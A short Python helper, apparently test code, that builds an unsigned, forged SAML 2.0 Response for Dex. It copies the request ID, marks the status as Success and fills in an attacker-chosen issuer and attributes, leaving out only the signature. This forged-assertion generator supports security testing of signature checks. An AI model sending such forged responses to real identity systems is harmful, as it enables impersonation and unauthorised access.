"""An answer of SAML 2.0 as somebody would make it who has no key: all that Dex looks at but the signature."""
import re

_NAMES = 'xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"'
_ATTRIBUTE = '<saml:Attribute Name="{}"><saml:AttributeValue>{}</saml:AttributeValue></saml:Attribute>'


def unsigned_answer(request, issuer, **attributes):
    """Answers the text of Dex's AuthnRequest."""
    request_id = re.search(r'\bID="([^"]*)"', request)[1]
    statement = "".join(_ATTRIBUTE.format(*pair) for pair in attributes.items())
    return f"""<samlp:Response {_NAMES} ID="forged" Version="2.0" InResponseTo="{request_id}">
<saml:Issuer>{issuer}</saml:Issuer>
<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>
<saml:Assertion ID="forged-too" Version="2.0"><saml:Issuer>{issuer}</saml:Issuer>
<saml:Subject><saml:NameID>any</saml:NameID>
<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"><saml:SubjectConfirmationData InResponseTo="{request_id}"/>
</saml:SubjectConfirmation></saml:Subject>
<saml:AttributeStatement>{statement}</saml:AttributeStatement></saml:Assertion></samlp:Response>"""
